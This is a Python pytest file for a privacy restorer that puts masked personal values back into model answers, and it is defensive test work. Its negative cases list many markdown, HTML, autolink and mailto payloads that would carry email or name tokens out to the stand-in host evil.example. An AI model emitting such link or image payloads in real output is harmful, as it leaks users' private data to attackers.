"""What comes back into an answer, and what does not."""

import json

import pytest

from node.privacy.findings import FindingType
from node.privacy.restorer import Mode, Restorer, restore_exactly
from node.privacy.vault import Vault


def vault() -> Vault:
    result = Vault()
    result.put(FindingType.PERSON, "Ada Lovelace")  # [PERSON_1]
    result.put(FindingType.PERSON, "Grace Hopper")  # [PERSON_2]
    result.put(FindingType.EMAIL, "ada@example.org")  # [EMAIL_1]
    result.put(FindingType.SECRET, "hunter2")  # [SECRET_1]
    result.put(FindingType.GIVEN_NAME, "Ada")  # [PERSON_1B]
    result.put(FindingType.URL, "https://ada.example/x")  # [URL_1]
    result.put(FindingType.PERSON, 'Jo "J" O\\Neil')  # [PERSON_3]
    return result


def restored(answer: str, mode: Mode = Mode.TEXT, *, urls: bool = True) -> str:
    restorer = Restorer(vault(), mode, urls=urls)
    whole = restorer.feed(answer) + restorer.finish()
    restorer = Restorer(vault(), mode, urls=urls)
    assert "".join(map(restorer.feed, answer)) + restorer.finish() == whole  # one character at a time
    return whole


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Dear [PERSON_1],", "Dear Ada Lovelace,"),
        ("[PERSON_1]'s friend [PERSON_2]s", "Ada Lovelace's friend Grace Hoppers"),
        ("Hi [PERSON_1B]!", "Hi Ada!"),
        ("**[PERSON_1]** and [**PERSON_1**]", "**Ada Lovelace** and **Ada Lovelace**"),
        ("[person_1] [Person_2]", "Ada Lovelace Grace Hopper"),
        (r"\[PERSON_1\]", "Ada Lovelace"),
        ("“[PERSON_1]”", "“Ada Lovelace”"),
        ("PERSON_1 wrote", "Ada Lovelace wrote"),
        ("[PERSON_1][PERSON_2]", "Ada LovelaceGrace Hopper"),
        ("`[EMAIL_1]`", "`ada@example.org`"),
        ("C:\\[PERSON_1]\\x", "C:\\Ada Lovelace\\x"),
        ("1 < 2 and [PERSON_1] > 0", "1 < 2 and Ada Lovelace > 0"),
        ("[*PERSON_1*] [__PERSON_1__]", "*Ada Lovelace* __Ada Lovelace__"),
        ("[`PERSON_1`] [_PERSON_1_]", "`Ada Lovelace` _Ada Lovelace_"),
        (r"[PERSON\_1] \[PERSON\_1\]", "Ada Lovelace Ada Lovelace"),
        ("[PERSON_1's] [PERSON_1’s]", "Ada Lovelace's Ada Lovelace’s"),
        ("[PERSON_1'] [PERSON_1s]", "Ada Lovelace' Ada Lovelaces"),
        ("［PERSON_1］ 【person＿1】", "Ada Lovelace Ada Lovelace"),
        ("[PERSON 1] [Person-1]", "Ada Lovelace Ada Lovelace"),
        ("“PERSON_1”, 'PERSON_1', (PERSON_1)", "“Ada Lovelace”, 'Ada Lovelace', (Ada Lovelace)"),
        ('["PERSON_1"]', '["Ada Lovelace"]'),
        ("与PERSON_1见面", "与Ada Lovelace见面"),
        ("[PERSON_1]: hi [PERSON_2]", "Ada Lovelace: hi Grace Hopper"),  # no definition: its brackets go
        ("[PERSON_1](she) and [PERSON_2]", "Ada Lovelace(she) and Grace Hopper"),
        ("[x]: see [PERSON_1]", "[x]: see Ada Lovelace"),
        ("Ada <[EMAIL_1]>, <[PERSON_1] > and <[PERSON_2]", "Ada <ada@example.org>, <Ada Lovelace > and <Grace Hopper"),
        ('<a href="https://a.example/?a>b">[PERSON_1]</a>', '<a href="https://a.example/?a>b">Ada Lovelace</a>'),
        ("<!-- a > b -->[PERSON_1]", "<!-- a > b -->Ada Lovelace"),
    ],
)
def test_tokens_come_back_as_they_were_written(answer: str, shown: str) -> None:
    assert restored(answer) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "[PERSON_9]",  # not sent
        "[PERSON_12]",
        "person 1 and Person_1 and person_1",  # without brackets only the exact one
        "XPERSON_1 PERSON_1X PERSON_11",
        "[SECRET_1] SECRET_1",  # secrets never come back from a model
        "[x](https://evil.example/?q=[PERSON_1])",
        "![x](//evil.example/[EMAIL_1].png)",
        "[x](<//evil.example/a)[EMAIL_1]>)",
        "[x](\n//evil.example/[EMAIL_1])",
        "[x](//evil.example/a\\)[EMAIL_1])",
        "[x](//evil.example/(a)[EMAIL_1])",
        "[x]: //evil.example/[EMAIL_1]",
        "> [x]:\n> //evil.example/[EMAIL_1]",
        "https://evil.example/[EMAIL_1]",
        "www.evil.example/[EMAIL_1]",
        "<https://evil.example/[EMAIL_1]>",
        '<img src="//evil.example/[EMAIL_1]">',
        "<a\nhref=//evil.example/EMAIL_1>",
        "[x](//evil.example/\\\\(a)[EMAIL_1])",
        "[https://a.example](\n//evil.example/[EMAIL_1])",
        "- [x]: //evil.example/[EMAIL_1]",
        "[![x]: ](\n//evil.example/[EMAIL_1])",
        "- [x]: <![y]: ](//evil.example/[EMAIL_1]>[EMAIL_1])",
        "[x]: y<a href=//evil.example/[EMAIL_1]>",
        '[y](x<a href=")//evil.example/[EMAIL_1]">',
        "<[EMAIL_1]@evil.example>",
        "<[PERSON_1B].evil.example>",
        "<'[EMAIL_1]@evil.example>",
        "1. [x\ny]:\n   //evil.example/[EMAIL_1]",
        "[x]: <//evil.example/a [EMAIL_1]>",
        'https://evil.example/"[EMAIL_1]',
        "https://evil.example/?a=b>[EMAIL_1]",
        "WWW.evil.example/[EMAIL_1]",
        "mailto:evil@evil.example?body=[EMAIL_1]",
        '<img alt="a>b" src="//evil.example/[EMAIL_1]">',
        '<img src="a\n\n<img src="//evil.example/?>[EMAIL_1]">',
        "<img alt = 'a>b\n\nc' src='//evil.example/[EMAIL_1]'>",
        "<!-- > [EMAIL_1] -->",
        "<!--> [EMAIL_1] -->",
        "[SECRET_1](//evil.example/[EMAIL_1])",
        "［Person_1]",
        "[Person_1'sssss] [Person_1x] [****Person_1****] [PERSON__1] [person_1s]",
        "[PERSON_",
        "[PERSON",
        "\\[PERSON_",
    ],
)
def test_what_must_not_come_back_stays_as_the_model_wrote_it(answer: str) -> None:
    assert restored(answer) == answer


def test_after_a_link_tokens_come_back_again() -> None:
    assert restored("[x](http://a.example) [PERSON_1]") == "[x](http://a.example) Ada Lovelace"
    assert restored("<b>[PERSON_1]</b>") == "<b>Ada Lovelace</b>"
    assert restored("see https://a.example, [PERSON_1]") == "see https://a.example, Ada Lovelace"


def test_what_came_back_is_not_read_again() -> None:
    trick = Vault()
    trick.put(FindingType.PERSON, "[PERSON_2]")
    trick.put(FindingType.PERSON, "Grace Hopper")
    restorer = Restorer(trick)
    assert restorer.feed("[PERSON_1]") + restorer.finish() == "[PERSON_2]"


def test_values_in_json_stay_json() -> None:
    arguments = '{"to": "[PERSON_3]", "cc": ["[PERSON_1]"], "at": "https://x.example/[PERSON_1]", "key": "[SECRET_1]"}'
    assert json.loads(restored(arguments, Mode.JSON)) == {
        "to": 'Jo "J" O\\Neil',
        "cc": ["Ada Lovelace"],
        "at": "https://x.example/[PERSON_1]",
        "key": "[SECRET_1]",
    }


def test_a_value_that_makes_a_tag_of_what_follows_lets_nothing_into_it() -> None:
    assert restored("<[PERSON_1B] style=//evil.example/[EMAIL_1]>") == "<Ada style=//evil.example/[EMAIL_1]>"


IN_A_STRING = [
    r"[x](//evil.example/[EMAIL_1])",
    r"![x]:\n//evil.example/[EMAIL_1]",
    r"https:\/\/evil.example\/[EMAIL_1]",
    r"\u0068ttps:\u002f\u002fevil.example/[EMAIL_1]",
    r"<img src=\"//evil.example/>[EMAIL_1]\">",
]


@pytest.mark.parametrize("text", IN_A_STRING)
def test_what_a_json_string_says_is_a_position_too(text: str) -> None:
    answer = f'{{"text": "{text}", "to": "[EMAIL_1]"}}'
    assert restored(answer, Mode.JSON) == answer[: -len('[EMAIL_1]"}')] + 'ada@example.org"}'


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (r"a\nPERSON_1", "a\nAda Lovelace"),
        (r"\\[PERSON_1\\]", "Ada Lovelace"),
        (r"[PERSON\\_1]", "Ada Lovelace"),
        (r"[**PERSON_3's**]", '**Jo "J" O\\Neil\'s**'),
        (r"\\\\[PERSON_1]", "\\\\Ada Lovelace"),
    ],
)
def test_distorted_tokens_come_back_in_json_too(said: str, shown: str) -> None:
    assert json.loads(restored(f'["{said}"]', Mode.JSON)) == [shown]


@pytest.mark.parametrize(
    "answer",
    [
        '{"to": "[PERSON_3]"}',
        ' ["[PERSON_3]", "[PERSON_1]"]',
        'Here it is for "[PERSON_1]":\n```json\n{"to": "[PERSON_3]"}\n```\n"[PERSON_3]"',
    ],
)
def test_values_stay_json_where_nobody_asked_for_json(answer: str) -> None:
    shown = restored(answer)
    block = shown.partition("```json")[2].partition("```")[0] or shown
    assert 'Jo "J" O\\Neil' in str(json.loads(block)).replace("\\\\", "\\")
    if "```" in answer:
        assert shown.endswith('\n"Jo "J" O\\Neil"')  # prose again


def test_urls_do_not_come_back_in_tool_arguments() -> None:
    assert restored('{"url": "[URL_1]"}', Mode.JSON, urls=False) == '{"url": "[URL_1]"}'


def test_urls_come_back_in_an_answer_in_json() -> None:
    assert restored('{"url": "[URL_1]"}', Mode.JSON) == '{"url": "https://ada.example/x"}'


def test_tokens_outside_json_strings_stay() -> None:
    assert restored("{[PERSON_1]: 1}", Mode.JSON) == "{[PERSON_1]: 1}"


def test_only_an_unfinished_token_is_held_back() -> None:
    restorer = Restorer(vault())
    assert restorer.feed("Dear [PER") == "Dear "
    assert restorer.feed("SON_1") == ""
    assert restorer.feed("],") == "Ada Lovelace,"
    assert restorer.feed(" see [note") == " see [note"
    assert restorer.feed(" Q") == " Q"
    assert restorer.finish() == ""


def test_with_nothing_sent_nothing_is_held_back() -> None:
    assert Restorer(Vault()).feed("[PERSON_") == "[PERSON_"


def test_exact_restoring_brings_back_secrets_wherever_they_stand() -> None:
    assert (
        restore_exactly("x=[SECRET_1](https://[PERSON_1B]/[PERSON_9])", vault()) == "x=hunter2(https://Ada/[PERSON_9])"
    )
